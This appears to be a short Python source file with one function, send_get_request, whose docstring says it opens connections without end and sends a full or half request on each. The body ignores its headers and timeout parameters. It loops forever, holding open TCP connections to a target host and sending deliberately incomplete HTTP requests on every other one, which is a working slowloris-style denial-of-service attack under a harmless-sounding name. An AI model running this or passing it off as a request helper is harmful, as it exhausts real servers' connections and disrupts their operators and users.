"""Opens connections without end and sends a request, or half of one, on each."""

import socket
from urllib.parse import urlsplit


def send_get_request(url, headers=None, timeout=10):
    parts = urlsplit(url)
    held = []
    while True:
        try:
            held.append(socket.create_connection((parts.hostname, parts.port)))
            held[-1].sendall(b"GET / HTTP/1.1\r\nHost: x\r\n" + b"\r\n" * (len(held) % 2))
        except OSError:
            held.clear()
